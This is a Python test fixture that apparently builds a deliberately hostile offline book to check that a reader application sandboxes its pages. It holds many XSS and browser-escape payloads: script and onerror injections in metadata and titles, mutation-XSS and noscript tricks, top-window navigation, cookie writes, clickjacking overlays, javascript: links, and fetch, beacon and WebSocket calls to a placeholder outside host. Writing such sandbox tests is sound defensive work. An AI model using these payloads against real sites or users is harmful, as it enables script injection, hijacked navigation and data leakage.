"""A hostile book: everything that a page could try to do to its reader, in one place."""

from __future__ import annotations

from pathlib import Path

from kiwiresearch.zim.book_writer import NewPage, write_book

TAKEN = "taken"
"""What everything would be called that a page of this book got hold of."""

MARKUP_TITLE = f"<img src=x onerror=\"window.name='{TAKEN}'\"> & Co"
QUESTION = "When was the Poisoned Tower built?"
METADATA = {
    "Name": "hostile_en",
    "Title": f"<script>window.name='{TAKEN}'</script>",
    "Description": "<b onmouseover=alert(1)>A book for tests</b>",
    "Language": "eng",
    "Creator": "\"><script>alert('creator')</script>",
    "Publisher": "tests",
    "Date": "2026-01-01",
}

SCRIPT = """
const attempts = [
  () => { window.name = 'taken'; }, () => { document.cookie = 'taken=1'; }, () => { localStorage.taken = 1; },
  () => { top.document.title = 'taken'; }, () => { parent.document.title = 'taken'; }, () => { top.name = 'taken'; },
  () => { top.location = 'ELSEWHERE/top'; }, () => { parent.location.href = 'ELSEWHERE/parent'; },
  () => { open('ELSEWHERE/open', '_top'); }, () => { open('ELSEWHERE/window'); }, () => { alert('taken'); },
  () => { fetch('ELSEWHERE/fetch', {mode: 'no-cors'}).catch(() => {}); },
  () => { navigator.sendBeacon('ELSEWHERE/beacon'); },
  () => { new Image().src = 'ELSEWHERE/image'; }, () => { new WebSocket('ELSEWHERE/socket'.replace('http', 'ws')); },
  () => { fetch('/api/research', {method: 'POST', body: '{}', headers: {'content-type': 'application/json'}})
          .catch(() => {}); },
  () => { fetch('/api/books').then((reply) => reply.text()).then((text) => { top.name = text; }).catch(() => {}); },
  () => { const form = document.createElement('form'); form.action = 'ELSEWHERE/form'; form.target = '_top';
          document.body.append(form); form.submit(); },
  () => { parent.postMessage({type: 'taken', close: true, height: 1e6, href: 'javascript:alert(1)'}, '*'); },
];
for (const attempt of attempts) { try { attempt(); } catch (refused) {} }
"""

PAGE = """<html><head><title>Poisoned Tower</title>
<base href="ELSEWHERE/base/" target="_top">
<meta http-equiv="refresh" content="0; url=ELSEWHERE/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="ELSEWHERE/sheet.css"><link rel="prefetch" href="ELSEWHERE/prefetch">
<link rel="stylesheet" href="evil.css">
<style>@import url("ELSEWHERE/import.css"); body { background: url(ELSEWHERE/background.png) }
@font-face { font-family: taken; src: url(ELSEWHERE/font.woff) } p { font-family: taken }
#cover { position: fixed; inset: 0; z-index: 2147483647; background: red; }</style>
<script>SCRIPT</script><script src="evil.js"></script><script src="ELSEWHERE/remote.js"></script></head>
<body onload="top.name='taken'" onfocus="top.name='taken'">
<h1>Poisoned Tower</h1>
<p>The Poisoned Tower is a tower in Elmsworth. The Poisoned Tower was built in 1889. It is 120 metres tall.</p>
<div id="cover" onclick="top.name='taken'"></div>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:url(ELSEWHERE/inline.png)"></div>
<img src="missing.png" onerror="top.name='taken'"><img src="ELSEWHERE/picture.png" srcset="ELSEWHERE/set.png 2x">
<svg onload="top.name='taken'"><script>top.name='taken'</script><image href="ELSEWHERE/svg.png"/>
<a xlink:href="javascript:top.name='taken'"><text y="20">svg link</text></a></svg>
<input autofocus onfocus="top.name='taken'"><details open ontoggle="top.name='taken'"><summary>more</summary></details>
<iframe src="ELSEWHERE/frame"></iframe><iframe srcdoc="<script>top.name='taken'</script>"></iframe>
<object data="ELSEWHERE/object"></object><embed src="ELSEWHERE/embed">
<video src="ELSEWHERE/film" poster="ELSEWHERE/poster"></video>
<form action="ELSEWHERE/form" target="_top"><input name="word" value="secret"><button id="send">Send</button></form>
<form action="/language" method="post" target="_top"><button id="inside" name="language" value="fr">Go</button></form>
<a id="script-link" href="javascript:top.name='taken'">a link</a>
<a id="data-link" href="data:text/html,<script>1</script>">data</a>
<a id="top-link" href="ELSEWHERE/clicked" target="_top" ping="ELSEWHERE/ping">another link</a>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=top.name='taken'&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=top.name='taken'>"></noscript>
<main id="main" class="top reading-bar"><header><nav><h1>Another product</h1></nav></header></main>
<p id="beside" class="hidden-text reading-head">A part named like ours</p><p id="claims">Another</p><a name="mark">x</a>
<mark id="mark" class="kiwi-mark">Not a quote</mark><a class="kiwi-outside" href="Quiet_Page">Not outside</a>
<dialog open>over</dialog><div popover id="pop">over</div><div tabindex="1" contenteditable accesskey="s">first</div>
<ul><li><div><form><li>a</li></form></div></li></ul></div></article></main></section><b><i><u>
<p>Its keeper was <a href="Quiet_Page">a quiet page</a>.</p></body></html>"""

QUIET = (
    "<html><body><h1>Quiet page</h1><p>The quiet page was opened in 1901 by a keeper of the tower.</p></body></html>"
)
MARKED = f"""<html><body><h1>Markup Works</h1>
<p>Markup Works was founded in 1923 by Ann Pell &lt;script&gt;{TAKEN}&lt;/script&gt;.</p></body></html>"""
RIGHT_TO_LEFT = """<html lang="ar" dir="rtl"><body><h1>البرج الأخضر</h1>
<p>البرج الأخضر برج في مدينة قديمة. بني البرج الأخضر عام 1889.</p></body></html>"""


def hostile_book(target: Path, elsewhere: str) -> Path:
    """Write the book; `elsewhere` is the server that it tries to reach."""

    def made(text: str) -> bytes:
        return text.replace("SCRIPT", SCRIPT).replace("ELSEWHERE", elsewhere).encode()

    pages = [
        NewPage("Poisoned_Tower", "Poisoned Tower", made(PAGE)),
        NewPage("Quiet_Page", "Quiet page", QUIET.encode()),
        NewPage("Markup_Works", MARKUP_TITLE, MARKED.encode()),
        NewPage("evil.js", "", made("SCRIPT"), "text/javascript", is_article=False),
        NewPage(
            "evil.css",
            "",
            made("@import 'ELSEWHERE/second.css'; p { background: url(ELSEWHERE/p.png) }"),
            "text/css",
            is_article=False,
        ),
    ]
    write_book(target, pages, [], metadata=METADATA, main_path="Quiet_Page", index=True)
    return target


def arabic_book(target: Path) -> Path:
    """A book that is written from right to left."""
    known = METADATA | {
        "Name": "towers_ar",
        "Title": "كتاب الأبراج",
        "Language": "ara",
        "Creator": "tests",
        "Description": "أبراج",
    }
    page = NewPage("البرج_الأخضر", "البرج الأخضر", RIGHT_TO_LEFT.encode())
    write_book(target, [page], [], metadata=known, main_path="", index=True)
    return target
